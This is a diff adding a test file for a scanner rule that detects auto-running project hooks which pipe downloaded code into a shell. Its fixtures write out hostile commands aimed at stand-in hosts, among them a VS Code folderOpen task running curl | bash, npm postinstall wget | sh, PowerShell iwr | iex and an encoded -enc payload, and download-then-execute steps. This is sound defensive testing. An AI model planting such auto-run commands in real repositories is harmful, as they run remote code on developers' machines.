@@ -1,0 +1,56 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './autorun-pipes-download-to-shell.js';
+
+const tasks = (cmd: string) =>
+  `{\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "x",\n      "command": ${JSON.stringify(cmd)},\n      "runOptions": { "runOn": "folderOpen" }\n    }\n  ]\n}\n`;
+
+ruleTest(rule, {
+  clean: [
+    { name: 'curl in a script nothing runs by itself', files: { 'package.json': '{"scripts":{"setup-dev":"curl -fsSL https://get.pnpm.io/install.sh | sh -"}}' } },
+    { name: 'curl download without a shell', files: { 'package.json': '{"scripts":{"postinstall":"curl -fsSLo data.json https://example.com/data.json"}}' } },
+    { name: 'folderOpen task that only installs', files: { '.vscode/tasks.json': tasks('npm install') } },
+    { name: 'shell script with curl to a file, no exec', files: { 'package.json': '{"scripts":{"postinstall":"bash scripts/fetch.sh"}}', 'scripts/fetch.sh': 'curl -o out.json https://example.com/x.json\n' } },
+    { name: 'piping a download into grep', files: { '.vscode/tasks.json': tasks('curl -s https://api.github.com/repos/a/b | grep tag_name') } },
+  ],
+  flagged: [
+    {
+      name: 'folderOpen task curl | bash',
+      files: { '.vscode/tasks.json': tasks("curl -s 'http://203.0.113.7:1244/settings/mac?flag=8' | bash") },
+      findings: [{ line: 6, file: '.vscode/tasks.json', evidence: "curl -s 'http://203.0.113.7:1244/settings/mac?flag=8' | bash", severity: 'critical', message: /opened in VS Code/ }],
+    },
+    {
+      name: 'postinstall wget -qO- | sh, reached through npm run',
+      files: { 'package.json': '{\n "scripts": {\n  "postinstall": "npm run setup",\n  "setup": "wget -qO- http://x.example/i | sh"\n }\n}' },
+      findings: [{ line: 4, evidence: 'wget -qO- http://x.example/i | sh', severity: 'critical', message: /npm install.*script "setup"/ }],
+    },
+    {
+      name: 'windows iwr | iex and powershell -enc',
+      files: {
+        '.devcontainer/devcontainer.json': '{\n "initializeCommand": "powershell -nop -c \\"iwr http://x.example/a.ps1 | iex\\""\n}',
+        'package.json': '{\n "scripts": {\n  "preinstall": "powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAeAApAA=="\n }\n}',
+      },
+      findings: [
+        { line: 2, file: '.devcontainer/devcontainer.json', evidence: /iwr http:\/\/x\.example\/a\.ps1 \| iex/, severity: 'high' },
+        { line: 3, file: 'package.json', decoded: 'IEX (iwr x)', severity: 'critical' },
+      ],
+    },
+    {
+      name: 'hook script one file deeper, and curl | cmd',
+      files: {
+        '.husky/pre-commit': '#!/bin/sh\nsh .husky/helper.sh\n',
+        '.husky/helper.sh': 'echo ok\ncurl -s http://x.example/w | cmd\n',
+      },
+      findings: [{ line: 2, file: '.husky/helper.sh', evidence: 'curl -s http://x.example/w | cmd' }],
+    },
+    {
+      name: 'Dockerfile installer stays low',
+      files: { Dockerfile: 'FROM node:20\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n' },
+      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
+    },
+    {
+      name: 'download then run',
+      files: { 'package.json': '{"scripts":{"install":"curl -sL http://x.example/p -o /tmp/p && chmod +x /tmp/p && /tmp/p"}}' },
+      findings: [{ line: 1, evidence: /curl -sL http:\/\/x\.example\/p -o \/tmp\/p && chmod \+x \/tmp\/p && \/tmp\/p/ }],
+    },
+  ],
+});
